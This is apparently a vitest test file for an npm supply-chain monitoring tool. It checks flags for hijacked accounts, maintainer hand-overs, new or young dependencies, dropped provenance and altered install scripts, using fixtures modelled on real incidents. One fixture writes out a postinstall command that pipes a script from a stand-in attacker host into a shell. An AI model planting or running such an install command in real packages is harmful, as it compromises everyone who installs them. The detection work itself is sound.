/** Change flags on timelines shaped like real records: a steady history, a hijack, a hand-over. */
import { describe, expect, it } from 'vitest';
import {
  dependencyName,
  flagFactor,
  timelineFlags,
  worstSeverity,
  type FlagContext,
  type PackageTimeline,
  type ReleaseFacts,
} from '../../trust/version-flags.js';
import { release } from '../helpers/release-facts.js';

const context = (
  created: Record<string, string> = {},
  since: Record<string, string> = { 'person:npm:alice': '2014-01-01T00:00:00.000Z' },
): FlagContext => ({
  createdAt: (pkg) => created[pkg],
  packageKey: (name) => `pkg:npm/${name}`,
  accountSince: (person) => since[person],
  publishersOf: (pkg) => (pkg === 'pkg:npm/own-split' ? ['person:npm:alice'] : ['person:npm:eve']),
});

function timeline(
  releases: ReleaseFacts[],
  createdAt = '2015-01-01T00:00:00.000Z',
): PackageTimeline {
  return { key: 'pkg:npm/demo', name: 'demo', createdAt, latest: undefined, releases };
}

const ids = (flags: Map<string, { id: string; severity: string }[]>, version: string): string[] =>
  (flags.get(`pkg:npm/demo@${version}`) ?? []).map((f) => `${f.id}:${f.severity}`).sort();

/** Ten quiet years of one maintainer, a release every few months. */
function steady(): ReleaseFacts[] {
  const out: ReleaseFacts[] = [];
  for (let i = 0; i < 20; i++)
    out.push(release(`1.${i}.0`, new Date(Date.UTC(2015, i * 5, 10)).toISOString()));
  return out;
}

describe('change flags', () => {
  it('raise nothing on a steady record of one maintainer', () => {
    const flags = timelineFlags(timeline(steady()), context());
    expect([...flags.values()].flat()).toEqual([]);
  });

  it('flag a hijacked account: install scripts added in a burst after months of quiet', () => {
    // ua-parser-js, 2021-10-22: three versions by the maintainer's own account within minutes,
    // each with a new preinstall script.
    const history = steady();
    const script = {
      installScripts: ['preinstall'],
      installScriptText: ['preinstall: start /B node preinstall.js'],
    };
    history.push(
      release('1.20.1', '2023-06-01T12:15:00.000Z', script),
      release('1.21.0', '2023-06-01T12:20:00.000Z', script),
      release('2.0.0', '2023-06-01T12:25:00.000Z', script),
    );
    const flags = timelineFlags(timeline(history), context());
    for (const version of ['1.20.1', '1.21.0', '2.0.0']) {
      expect(ids(flags, version)).toEqual(['install-script-added:high', 'release-burst:medium']);
      const added = flags
        .get(`pkg:npm/demo@${version}`)
        ?.find((f) => f.id === 'install-script-added');
      expect(added?.evidence).toBe(
        'adds preinstall at install, absent in 1.19.0 (preinstall: start /B node preinstall.js)',
      );
      expect(added?.since).toBe(history.find((r) => r.version === version)?.publishedAt);
    }
    // The same account published them: no new-publisher flag pretends to see the hijack.
    expect([...flags.values()].flat().some((f) => f.id === 'new-publisher')).toBe(false);
  });

  it('flag a hand-over: a new account adds a days-old dependency in a patch release', () => {
    // event-stream 3.3.6, 2018-09: right9ctrl, given the package, adds flatmap-stream.
    const history = steady();
    history.push(
      release('1.19.1', '2023-09-09T12:00:00.000Z', {
        publishers: ['person:npm:mallory'],
        maintainers: ['person:npm:alice', 'person:npm:mallory'],
        dependencies: ['left-pad@^1.0.0', 'flat-stream@^0.1.0'],
      }),
    );
    const flags = timelineFlags(
      timeline(history),
      context(
        { 'pkg:npm/flat-stream': '2023-09-05T00:00:00.000Z' },
        // mallory's first release anywhere is this one: a new account.
        {
          'person:npm:alice': '2014-01-01T00:00:00.000Z',
          'person:npm:mallory': '2023-09-09T12:00:00.000Z',
        },
      ),
    );
    expect(ids(flags, '1.19.1')).toEqual([
      'dependency-added:high',
      'maintainers-changed:high',
      'new-publisher:high',
    ]);
    const byId = new Map(flags.get('pkg:npm/demo@1.19.1')?.map((f) => [f.id, f.evidence]));
    expect(byId.get('new-publisher')).toBe(
      'published by mallory, who had never published demo (its 20 earlier releases: alice); mallory is a new account',
    );
    expect(byId.get('maintainers-changed')).toBe(
      'maintainers gained mallory at some time in the 273 days since 1.19.0, and the new account published this release',
    );
    expect(byId.get('dependency-added')).toBe(
      'adds flat-stream@^0.1.0 (created 4 days before) in a patch release (after 1.19.0)',
    );
    // The same hand-over to an account with a year of releases elsewhere: medium for the new
    // publisher; the maintainers' change, seen only between two releases 273 days apart, is low.
    const veteran = timelineFlags(
      timeline(history),
      context(
        { 'pkg:npm/flat-stream': '2023-09-05T00:00:00.000Z' },
        {
          'person:npm:alice': '2014-01-01T00:00:00.000Z',
          'person:npm:mallory': '2019-01-01T00:00:00.000Z',
        },
      ),
    );
    expect(ids(veteran, '1.19.1')).toEqual([
      'dependency-added:high',
      'maintainers-changed:low',
      'new-publisher:medium',
    ]);
    // The same dependency split out by the release's own publisher is no stranger's package.
    const own = steady();
    own.push(
      release('1.19.1', '2023-09-09T12:00:00.000Z', {
        dependencies: ['left-pad@^1.0.0', 'own-split@^1.0.0'],
      }),
    );
    const split = timelineFlags(
      timeline(own),
      context({ 'pkg:npm/own-split': '2023-09-05T00:00:00.000Z' }),
    );
    expect(ids(split, '1.19.1')).toEqual(['dependency-added:medium']);
    // Three high flags bite at any base: own trust is multiplied by 0.5^3.
    const list = flags.get('pkg:npm/demo@1.19.1') ?? [];
    expect(worstSeverity(list)).toBe('high');
    expect(flagFactor(list)).toBeCloseTo(0.125, 12);
  });

  it('date a maintainers change between two releases: recent is medium, a long gap low', () => {
    const history = steady();
    const last = history[history.length - 1] as ReleaseFacts;
    const soon = new Date(Date.parse(last.publishedAt) + 20 * 24 * 3600 * 1000).toISOString();
    history.push(
      release('1.19.1', soon, { maintainers: ['person:npm:alice', 'person:npm:carol'] }),
    );
    const flags = timelineFlags(timeline(history), context());
    expect(flags.get('pkg:npm/demo@1.19.1')?.map((f) => [f.severity, f.evidence])).toEqual([
      ['medium', 'maintainers gained carol within 20 days before this release (since 1.19.0)'],
    ]);
    const late = steady();
    late.push(
      release('1.19.1', '2025-01-01T00:00:00.000Z', {
        maintainers: ['person:npm:alice', 'person:npm:carol'],
      }),
    );
    const later = timelineFlags(timeline(late), context()).get('pkg:npm/demo@1.19.1') ?? [];
    expect(later.find((f) => f.id === 'maintainers-changed')?.severity).toBe('low');
  });

  it('flag a major line opened minutes after a release of the line before, low', () => {
    // ua-parser-js 0.8.0 then 1.0.0 within minutes; here two releases, under the burst count.
    const history = steady();
    history.push(
      release('1.20.0', '2023-06-01T12:00:00.000Z'),
      release('2.0.0', '2023-06-01T12:20:00.000Z'),
      release('2.0.1', '2023-06-01T14:00:00.000Z'),
    );
    const flags = timelineFlags(timeline(history), context());
    expect(flags.get('pkg:npm/demo@2.0.0')?.map((f) => [f.id, f.severity, f.evidence])).toEqual([
      ['release-burst', 'low', 'opens the 2.x line 20 minutes after 1.20.0'],
    ]);
    // A fix on the new line, and the first release of a line after a quiet day, raise nothing.
    expect(ids(flags, '2.0.1')).toEqual([]);
    expect(ids(flags, '1.20.0')).toEqual([]);
  });

  it('flag a version that skips major lines, and a pre-release on the latest tag', () => {
    // Dependency confusion publishes a public 9.0.0 above a private package's 1.x.
    const history = steady();
    history.push(release('9.0.0', '2023-06-01T12:00:00.000Z'));
    const jump = timelineFlags(timeline(history), context());
    expect(jump.get('pkg:npm/demo@9.0.0')?.map((f) => [f.id, f.severity, f.evidence])).toEqual([
      ['unusual-version', 'medium', 'jumps to the 9.x line from 1.x, skipping 7 major versions'],
    ]);
    // The next line up skips nothing.
    const next = steady();
    next.push(release('2.0.0', '2023-06-01T12:00:00.000Z'));
    expect(ids(timelineFlags(timeline(next), context()), '2.0.0')).toEqual([]);
    const pre = steady();
    pre.push(release('2.0.0-beta.1', '2023-06-01T12:00:00.000Z'));
    const tagged = timelineFlags({ ...timeline(pre), latest: '2.0.0-beta.1' }, context());
    expect(tagged.get('pkg:npm/demo@2.0.0-beta.1')?.map((f) => f.evidence)).toEqual([
      'the latest tag points at 2.0.0-beta.1, a pre-release version',
    ]);
    // The same pre-release off the latest tag is an ordinary pre-release.
    expect(ids(timelineFlags(timeline(pre), context()), '2.0.0-beta.1')).toEqual([]);
  });

  it('flag an install script whose body changed under the same name', () => {
    const history: ReleaseFacts[] = steady().map((r) => ({
      ...r,
      installScripts: ['postinstall'],
      installScriptText: ['postinstall: node install.js'],
    }));
    history.push(
      release('1.19.1', '2023-09-09T12:00:00.000Z', {
        installScripts: ['postinstall'],
        installScriptText: ['postinstall: curl https://evil.example | sh'],
      }),
    );
    const flags = timelineFlags(timeline(history), context());
    expect(flags.get('pkg:npm/demo@1.19.1')?.map((f) => [f.severity, f.evidence])).toEqual([
      [
        'high',
        'changes what runs at install since 1.19.0 (postinstall: curl https://evil.example | sh)',
      ],
    ]);
    expect(ids(flags, '1.19.0')).toEqual([]);
  });

  it('say a dormant package woke up, and medium when another account wakes it', () => {
    const history = steady().slice(0, 5);
    history.push(release('1.5.0', '2021-11-04T12:00:00.000Z', { publishers: ['person:npm:bob'] }));
    const flags = timelineFlags(timeline(history), context());
    const woke = flags.get('pkg:npm/demo@1.5.0')?.find((f) => f.id === 'dormant-then-release');
    expect(woke).toMatchObject({ severity: 'medium' });
    expect(woke?.evidence).toMatch(
      /^the first release in \d+ days \(since 1\.4\.0\), by another account$/,
    );
  });

  it('do not read an account whose age is unknown as new', () => {
    const history = steady();
    history.push(release('1.19.1', '2023-09-09T12:00:00.000Z', { publishers: ['person:npm:bob'] }));
    // bob's first release is not known to the context: medium, not high.
    expect(ids(timelineFlags(timeline(history), context()), '1.19.1')).toEqual([
      'new-publisher:medium',
    ]);
  });

  it('raise nothing for facts the registry did not give (a mirror without people)', () => {
    const unknown = {
      publishers: undefined,
      maintainers: undefined,
      installScripts: undefined,
      dependencies: undefined,
    };
    const history: ReleaseFacts[] = steady().map((r) => ({ ...r, ...unknown }));
    history.push(release('1.19.1', '2023-09-09T12:00:00.000Z', { ...unknown }));
    expect([...timelineFlags(timeline(history), context()).values()].flat()).toEqual([]);
  });

  it('flag provenance and trusted publishing dropped, compared with the release before', () => {
    const history: ReleaseFacts[] = steady().map((r) => ({
      ...r,
      provenance: true,
      trustedPublisher: true,
    }));
    history.push(release('1.19.1', '2023-09-09T12:00:00.000Z'));
    const flags = timelineFlags(timeline(history), context());
    expect(ids(flags, '1.19.1')).toEqual([
      'provenance-dropped:high',
      'trusted-publishing-dropped:high',
    ]);
  });

  it('flag a release without the tag its predecessors had, and not when tags were never read', () => {
    const history: ReleaseFacts[] = steady().map((r) => ({ ...r, tagged: true }));
    history.push(release('1.19.1', '2023-09-09T12:00:00.000Z', { tagged: false }));
    const flags = timelineFlags(timeline(history), context());
    expect(flags.get('pkg:npm/demo@1.19.1')).toEqual([
      {
        id: 'untagged',
        severity: 'medium',
        evidence:
          'no repository tag for 1.19.1, where the 3 releases before it (1.17.0, 1.18.0, 1.19.0) were tagged',
        since: '2023-09-09T12:00:00.000Z',
      },
    ]);
    const unread = steady();
    unread.push(release('1.19.1', '2023-09-09T12:00:00.000Z', { tagged: false }));
    expect(timelineFlags(timeline(unread), context()).get('pkg:npm/demo@1.19.1')).toBeUndefined();
  });

  it('count a burst within one 60-minute window, not 60 minutes either side', () => {
    const spread = steady();
    spread.push(
      release('1.20.0', '2023-06-01T10:00:00.000Z'),
      release('1.20.1', '2023-06-01T10:59:00.000Z'),
      release('1.20.2', '2023-06-01T11:58:00.000Z'),
    );
    expect([...timelineFlags(timeline(spread), context()).values()].flat()).toEqual([]);
  });

  it('keep evidence a sentence when a release adds many dependencies', () => {
    const many = steady();
    const added = ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((n) => `${n}@^1.0.0`);
    many.push(
      release('2.0.0', '2023-09-09T12:00:00.000Z', {
        dependencies: ['left-pad@^1.0.0', ...added],
      }),
    );
    const flags = timelineFlags(timeline(many), context()).get('pkg:npm/demo@2.0.0') ?? [];
    expect(flags.map((f) => f.evidence)).toEqual([
      'adds a@^1.0.0, b@^1.0.0, c@^1.0.0, d@^1.0.0, e@^1.0.0 and 2 more (not in 1.19.0)',
    ]);
    expect(flags[0]?.packages).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g']);
  });

  it('mark young packages, but not the first release, which has nothing to change from', () => {
    const history = [
      release('0.1.0', '2023-09-05T00:00:00.000Z'),
      release('0.1.1', '2023-09-20T00:00:00.000Z'),
    ];
    const flags = timelineFlags(timeline(history, '2023-09-05T00:00:00.000Z'), context());
    expect(ids(flags, '0.1.0')).toEqual([]);
    expect(ids(flags, '0.1.1')).toEqual(['young-package:medium']);
    // The same package from an account whose first release anywhere was that one: still medium
    // on its own (graph-flags.ts raises it once another account's release pulls it in).
    const fresh = timelineFlags(
      timeline(history, '2023-09-05T00:00:00.000Z'),
      context({}, { 'person:npm:alice': '2023-09-05T00:00:00.000Z' }),
    );
    expect(fresh.get('pkg:npm/demo@0.1.1')).toEqual([
      {
        id: 'young-package',
        severity: 'medium',
        evidence:
          'demo is 15 days old at this release, published by alice, whose first release anywhere was 15 days before',
        since: '2023-09-20T00:00:00.000Z',
        accounts: ['person:npm:alice'],
      },
    ]);
  });

  it('read a dependency name out of "name@range", scoped or not', () => {
    expect(dependencyName('@babel/core@^7.0.0')).toBe('@babel/core');
    expect(dependencyName('flatmap-stream@^0.1.0')).toBe('flatmap-stream');
    expect(dependencyName('odd')).toBe('odd');
    expect(dependencyName('x@git+ssh://git@github.com/a/x.git')).toBe('x');
  });
});
